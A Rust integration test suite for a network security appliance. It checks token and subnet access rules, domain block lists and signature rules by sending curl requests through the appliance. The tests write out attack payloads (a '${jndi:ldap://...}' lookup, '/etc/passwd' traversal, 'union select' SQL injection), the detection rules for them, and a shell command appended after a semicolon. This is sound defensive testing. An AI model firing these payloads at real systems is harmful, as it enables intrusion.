//! The example appliance between real programs: `curl`, a web server, and what the server says has reached it.
//!
//! This takes what the bridge takes: root, `ip`, `/dev/net/tun`, `curl` and `python3`; and `openssl` for a certificate. Where something
//! is missing the tests say so on the standard error and pass, unless the environment has `KERNEL_TESTS=required`.
#![cfg(target_os = "linux")]

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;

use nix::sched::{CloneFlags, unshare};

/// An example's binary, which cargo puts beside the test programs.
fn example(name: &str) -> PathBuf {
    let tests = std::env::current_exe().unwrap();
    tests.parent().and_then(Path::parent).unwrap().join("examples").join(name)
}

/// Whether the machine lets these tests run. Where not, says so, past the test harness that would swallow it.
fn may_run() -> bool {
    let namespace = thread::spawn(|| unshare(CloneFlags::CLONE_NEWNET)).join().unwrap();
    let mut missing = namespace.err().map(|error| format!("a network namespace: {error}"));
    for (program, argument) in
        [("curl", "--version"), ("python3", "--version"), ("openssl", "version")]
    {
        let found = Command::new(program).arg(argument).output();
        missing = missing.or(found.err().map(|error| format!("the command {program}: {error}")));
    }
    if !Path::new("/dev/net/tun").exists() {
        missing = missing.or(Some("/dev/net/tun".into()));
    }
    if !example("appliance").exists() {
        missing = missing.or(Some("the example appliance, which is to be built first".into()));
    }
    let Some(missing) = missing else { return true };
    let required = std::env::var("KERNEL_TESTS").is_ok_and(|value| value == "required");
    assert!(!required, "{missing}");
    // Past the test harness, which would swallow it.
    let mut stderr = std::io::stderr();
    writeln!(stderr, "SKIPPED: there must be {missing}").unwrap();
    false
}

/// What curl said to each request, by its name, and what the server says has reached it.
struct Seen {
    ends: BTreeMap<String, (i32, String)>,
    served: Vec<String>,
    appliance: String,
}

/// Has `curl` make requests through an appliance that is configured so; each has a name and the arguments.
fn through(test: &str, config: &str, requests: &[(&str, &str)]) -> Seen {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("guarded-{test}"));
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir_all(&folder).unwrap();
    let file = |name: &str| folder.join(name).to_str().unwrap().to_owned();
    fs::write(file("config.toml"), config).unwrap();
    let made = Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "2",
            "-subj",
            "/CN=server",
        ])
        .args(["-keyout", &file("key.pem"), "-out", &file("certificate.pem")])
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    let chain = [file("certificate.pem"), file("key.pem")].map(|name| fs::read(name).unwrap());
    fs::write(file("chain.pem"), chain.concat()).unwrap();
    let script: String = requests
        .iter()
        .map(|(name, arguments)| {
            let curl = format!("curl -s -k -m 20 -o /dev/null -w '%{{http_code}}' {arguments}");
            format!("status=$({curl}); echo \"{name} $? $status\" >> {}\n", file("ends"))
        })
        .collect();
    fs::write(file("client.sh"), script).unwrap();
    let server = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/served.py");
    let server =
        format!("exec python3 {} {} {}", server.display(), file("served"), file("chain.pem"));
    let output = Command::new(example("gwlb_sim"))
        .args(["bridge", "--self-contained", "--server", &server])
        .args(["--client", &format!("exec sh {}", file("client.sh"))])
        .arg("--")
        .arg(example("appliance"))
        .args(["run", "--config", &file("config.toml")])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(0), "{said}");
    let ends = fs::read_to_string(file("ends")).unwrap();
    let ends = ends.lines().map(|line| {
        let mut words = line.split(' ').map(str::to_owned);
        let mut next = || words.next().unwrap();
        (next(), (next().parse().unwrap(), next()))
    });
    let served = fs::read_to_string(file("served")).unwrap_or_default();
    Seen {
        ends: ends.collect(),
        served: served.lines().map(str::to_owned).collect(),
        appliance: said,
    }
}

impl Seen {
    #[track_caller]
    fn assert_served(&self, name: &str) {
        let expected = (0, "200".to_owned());
        assert_eq!(self.ends[name], expected, "{name}: {}", self.appliance);
    }

    /// Curl ends so where its connection is reset: 56 where it waits for an answer, 35 in the handshake of TLS.
    #[track_caller]
    fn assert_reset(&self, name: &str) {
        let (code, status) = &self.ends[name];
        assert!([35, 56].contains(code) && status == "000", "{name}: {code}: {}", self.appliance);
    }
}

/// `{"alg":"HS256"}`, `{"exp":4102444800}`, and a signature that nobody has a key for.
const TOKEN: &str = "eyJhbGciOiJIUzI1NiJ9.eyJleHAiOjQxMDI0NDQ4MDB9.c2lnbmF0dXJl";
/// The same with `{"exp":1000000000}`: it was over in 2001.
const STALE: &str = "eyJhbGciOiJIUzI1NiJ9.eyJleHAiOjEwMDAwMDAwMDB9.c2lnbmF0dXJl";

/// Everyone may GET, only requests with a token may PUT, and only from the API gateway's subnets.
fn api(gateways: &str) -> String {
    format!(
        "[api]\nports = 80\nrule = [{{ methods = \"GET\" }},\n    {{ methods = \"PUT\", token = true, from = {gateways} }}]\n"
    )
}

#[test]
fn who_may_get_and_who_may_put() {
    if !may_run() {
        return;
    }
    let (with, stale) = (
        format!("-H 'Authorization: Bearer {TOKEN}'"),
        format!("-H 'Authorization: Bearer {STALE}'"),
    );
    let put = |path: &str, more: &str| format!("-T /etc/hostname {more} http://10.77.2.2/{path}");
    let requests = [
        ("get", "http://10.77.2.2/get".to_owned()),
        ("put", put("put", &with)),
        ("put-without", put("put-without", "")),
        ("put-no-token", put("put-no-token", "-H 'Authorization: Bearer sesame'")),
        ("put-stale", put("put-stale", &stale)),
        ("delete", format!("-X DELETE {with} http://10.77.2.2/delete")),
        // Hidden behind a request that is allowed, on the same connection.
        (
            "second",
            "http://10.77.2.2/first --next -s -m 20 -o /dev/null -X DELETE http://10.77.2.2/second"
                .to_string(),
        ),
        ("last", "http://10.77.2.2/last".to_owned()),
    ];
    let requests: Vec<_> = requests.iter().map(|(name, how)| (*name, how.as_str())).collect();
    let seen = through("api", &api("[\"10.77.1.0/24\", \"10.0.65.0/24\"]"), &requests);
    for name in ["get", "put", "last"] {
        seen.assert_served(name);
    }
    for name in ["put-without", "put-no-token", "put-stale", "delete"] {
        seen.assert_reset(name);
    }
    assert_eq!(seen.ends["second"].0, 56);
    let expected =
        ["GET 10.77.2.2 /get", "PUT 10.77.2.2 /put", "GET 10.77.2.2 /first", "GET 10.77.2.2 /last"];
    assert_eq!(seen.served, expected.map(|line| format!("80 {line}")), "{}", seen.appliance);

    // The same from elsewhere.
    let put = put("put", &with);
    let requests = [("get", "http://10.77.2.2/get"), ("put", put.as_str())];
    let seen = through("api-elsewhere", &api("[\"10.0.64.0/24\", \"10.0.65.0/24\"]"), &requests);
    seen.assert_served("get");
    seen.assert_reset("put");
    assert_eq!(seen.served, ["80 GET 10.77.2.2 /get"], "{}", seen.appliance);
}

/// Over HTTP by `Host`, over TLS by the server's name.
fn calls(names: &[&'static str]) -> Vec<(String, String)> {
    let of = |name: &&str| {
        let resolve = format!("--resolve {name}:80:10.77.2.2 --resolve {name}:443:10.77.2.2");
        [
            (format!("http-{name}"), format!("{resolve} http://{name}/")),
            (format!("tls-{name}"), format!("{resolve} https://{name}/")),
        ]
    };
    let named = names.iter().flat_map(of);
    // An address is no name, and TLS has none then.
    let bare = [("tls-bare".to_owned(), "https://10.77.2.2/".to_owned())];
    named.chain(bare).collect()
}

#[test]
fn which_names_may_be_called() {
    if !may_run() {
        return;
    }
    let calls = calls(&["good.example", "evil.example", "www.evil.example"]);
    let calls: Vec<_> = calls.iter().map(|(name, how)| (name.as_str(), how.as_str())).collect();
    let forbidden = "[domains]\ndefault = \"allow\"\n[[domains.list]]\naction = \"reject\"\nnames = [\"evil.example\", \"*.evil.example\"]\n";
    let seen = through("names", forbidden, &calls);
    let good = ["80 GET good.example /", "443 GET good.example /"];
    for kind in ["http", "tls"] {
        seen.assert_served(&format!("{kind}-good.example"));
        seen.assert_reset(&format!("{kind}-evil.example"));
        seen.assert_reset(&format!("{kind}-www.evil.example"));
    }
    seen.assert_served("tls-bare");
    assert_eq!(seen.served, [&good[..], &["443 GET 10.77.2.2 /"]].concat(), "{}", seen.appliance);

    // Only what is listed, and nothing without a name.
    let allowed = "[domains]\ndefault = \"reject\"\n[[domains.list]]\naction = \"allow\"\nnames = \"good.example\"\n";
    let seen = through("only-names", allowed, &calls);
    for (name, _) in &calls {
        if name.ends_with("-good.example") {
            seen.assert_served(name);
        } else {
            seen.assert_reset(name);
        }
    }
    assert_eq!(seen.served, good, "{}", seen.appliance);
}

/// In the name of `curl`, in a path, in a body and in a body in chunks.
const RULES: &str = r#"
reject http any any -> any any (msg:"lookup"; http.user_agent; content:"${jndi:ldap"; nocase; sid:1; rev:1;)
reject http any any -> any any (msg:"path"; http.uri; content:"/etc/passwd"; sid:2; rev:1;)
reject http any any -> any any (msg:"query"; http.request_body; content:"union select"; nocase; sid:3; rev:1;)
"#;

#[test]
fn no_exploit_reaches_the_server_however_it_is_cut() {
    if !may_run() {
        return;
    }
    let rules = Path::new(env!("CARGO_TARGET_TMPDIR")).join("guarded-exploits.rules");
    fs::write(&rules, RULES).unwrap();
    let config = format!("[signatures]\nfiles = [\"{}\"]\n", rules.display());
    let lookup = |pad: usize| format!("-A '{}${{jNdi:LDAP://10.77.1.2/a}}'", "a".repeat(pad));
    let mut requests = vec![
        ("whole".to_owned(), format!("{} http://10.77.2.2/exploit", lookup(0))),
        ("path".to_owned(), "--path-as-is http://10.77.2.2/exploit/%2e%2e/etc/pass%77d".to_owned()),
    ];
    // Segments of 48 bytes from here on: wherever they end, it is within what is looked for.
    let narrow =
        r"ip link set $(ip route get 10.77.2.2 | sed -n 's/.* \(dev [^ ]*\).*/\1/p') mtu 100";
    requests.push(("narrow".to_owned(), format!("http://10.77.2.2/narrow; {narrow}")));
    for pad in 0..48 {
        let of = |kind: &str| format!("{kind}-{pad}");
        let padding = "a".repeat(pad);
        let body = |text: &str| format!("-X PUT -d '{padding}{text}' http://10.77.2.2");
        requests.extend([
            (of("header"), format!("{} http://10.77.2.2/exploit", lookup(pad))),
            (of("path"), format!("http://10.77.2.2/{padding}/exploit/etc/passwd")),
            (of("body"), format!("{}/exploit", body("1 UNION SELECT 2"))),
            (
                of("chunks"),
                format!("-H 'Transfer-Encoding: chunked' {}/exploit", body("1 uNION sELECT 2")),
            ),
            (of("harmless"), format!("-A '{padding}$jndi' {}/{pad}", body("1 UNION, SELECT 2"))),
        ]);
    }
    let named: Vec<_> = requests.iter().map(|(name, how)| (name.as_str(), how.as_str())).collect();
    let seen = through("exploits", &config, &named);
    // Curl's, and that the device was made narrow.
    seen.assert_served("narrow");
    let mut served = vec!["80 GET 10.77.2.2 /narrow".to_owned()];
    for (name, _) in &named {
        match name.strip_prefix("harmless-") {
            _ if *name == "narrow" => {}
            Some(pad) => {
                seen.assert_served(name);
                served.push(format!("80 PUT 10.77.2.2 /{pad}"));
            }
            None => seen.assert_reset(name),
        }
    }
    assert_eq!(seen.served, served, "{}", seen.appliance);
}
